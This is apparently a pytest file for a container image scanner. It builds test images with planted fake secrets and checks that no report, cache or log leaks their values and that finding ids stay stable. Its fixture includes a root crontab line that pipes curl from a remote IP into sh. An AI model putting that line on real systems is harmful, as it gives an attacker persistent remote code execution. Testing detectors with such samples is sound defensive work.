"""
Build an image that holds everything that may be found, look at it with every scanner, and read every report.

Laws: no report, cache or store holds a secret's value; a new tag, other layer digests and another
order of the same files change no finding's id.
"""

import json
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest

from pratique.kit import registry
from tests.makers.image import ImageMaker, archive, named

TOKEN = "ghp" + "_" + "A7b9C2d4E6f8G1h3J5k7L9m2N4p6Q8r0S1t3"
"""Assembled; its checksum is wrong, so it is nobody's."""
PASSWORD = "q7" + "Zt!k2" + "Wv9#rD4x"
FILES: dict[str, bytes | str] = {
    "srv/app/.env": f"DB_HOST=db\nDB_PASSWORD={PASSWORD}\n".encode(),
    "srv/app/settings.py": f'API_TOKEN = "{TOKEN}"\nSECOND_PASSWORD = "{PASSWORD}2"\n'.encode(),
    "etc/crontab": b"* * * * * root curl http://203.0.113.9/x | sh\n",
    "etc/os-release": b'ID=alpine\nVERSION_ID=3.20.1\nNAME="Alpine Linux"\n',
    "lib/apk/db/installed": b"P:musl\nV:1.2.5-r0\nA:x86_64\nL:MIT\n\nP:gpl\nV:1-r0\nA:x86_64\nL:AGPL-3.0-only\n\n",
}
HISTORY = [
    {"created_by": "ADD rootfs.tar.gz / # buildkit"},
    {"created_by": f"RUN |1 BUILD_TOKEN={TOKEN} /bin/sh -c make # buildkit"},
    {"created_by": f"ENV DB_PASSWORD={PASSWORD}", "empty_layer": True},
]


def built(folder: Path, name: str, extra: Mapping[str, bytes | str]) -> Path:
    """Write one build: ``extra`` files change the digest of both layers, not what is wrong."""
    maker = ImageMaker()
    config = {
        "config": {"Env": [f"DB_PASSWORD={PASSWORD}"], "ExposedPorts": {"2375/tcp": {}}},
        "history": HISTORY,
        "created": "2026-11-01T00:00:00Z",
    }
    top = {"srv/app/.wh..env": b"", **{f"srv/app/{key}": value for key, value in extra.items()}}
    entry = named(maker.image({**FILES, **extra}, top, config=config), name)
    return archive(folder / f"{name.replace(':', '-')}.oci.tar", maker.files(entry))


def scanned(place: Path, home: Path) -> dict[str, bytes]:
    """Return every report of a scan with all scanners, by format, and what was written besides."""
    formats = registry.names("reports")
    out = home / "out"
    out.mkdir(parents=True)
    wanted = [word for name in formats for word in ("-o", f"{name}={out / name}")]
    done = subprocess.run(
        [sys.executable, "-m", "pratique", "scan", str(place), "--scanners", "all", "--offline", "--store", *wanted],
        env={
            "PATH": "/usr/bin:/bin",
            "PRATIQUE_CACHE_DIR": str(home / "cache"),
            "PRATIQUE_DATA_DIR": str(home / "data"),
            "PRATIQUE_FINGERPRINT_KEY": "0" * 64,
            "SOURCE_DATE_EPOCH": "1795000000",
        },
        capture_output=True,
        timeout=300,
    )  # fmt: skip
    assert done.returncode in (0, 3), done.stderr.decode()
    told = {name: (out / name).read_bytes() for name in formats}
    kept = {str(one): one.read_bytes() for one in home.rglob("*") if one.is_file()}
    return told | kept | {"stderr": done.stderr, "stdout": done.stdout}


@pytest.fixture(scope="module")
def builds(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, bytes]]:
    """Return what two builds of one image came to."""
    folder = tmp_path_factory.mktemp("builds")
    first = built(folder, "shop:1.4", {"opt/build": b"1"})
    second = built(folder, "store:2.0-rc1", {"a/first": b"2", "opt/build": b"22"})
    return [scanned(place, folder / place.stem) for place in (first, second)]


def findings_of(told: Mapping[str, bytes]) -> list[dict]:
    (subject,) = json.loads(told["json"])["subjects"]
    found: list[dict] = subject["findings"]
    return found


def test_no_value_is_written_anywhere(builds: list[dict[str, bytes]]):
    """Neither reports nor cache, store, log or screen hold a value, in whatever spelling."""
    values = [TOKEN, PASSWORD, TOKEN[8:], PASSWORD[4:]]
    spelled = {
        spell for value in values for spell in (value.encode(), json.dumps(value).encode()[1:-1])
    }
    for told in builds:
        assert "secret" in {one["kind"] for one in findings_of(told)}
        for where, content in told.items():
            for value in spelled:
                assert value not in content, where


def test_ids_survive_a_new_tag_and_other_layers(builds: list[dict[str, bytes]]):
    """The same faults have the same ids in a build that shares neither name nor digest."""
    first, second = ({one["id"] for one in findings_of(told)} for told in builds)
    assert first == second
    layers = [
        {one["layer"]["diff_id"] for one in findings_of(told) if one["layer"]} for told in builds
    ]
    assert not layers[0] & layers[1]


def test_ids_are_unique_and_of_every_kind(builds: list[dict[str, bytes]]):
    """Each finding has its own; secrets in files, in deleted files and in the config are there."""
    found = findings_of(builds[0])
    assert len({one["id"] for one in found}) == len(found)
    assert {"secret", "config", "malware"} <= {one["kind"] for one in found}
    places = {one["location"]: one for one in found if one["kind"] == "secret"}
    assert places["srv/app/.env"]["hidden_by"]["index"] == 1
    assert places["srv/app/settings.py"]["hidden_by"] is None
    assert any(place.startswith("config: ENV") for place in places)
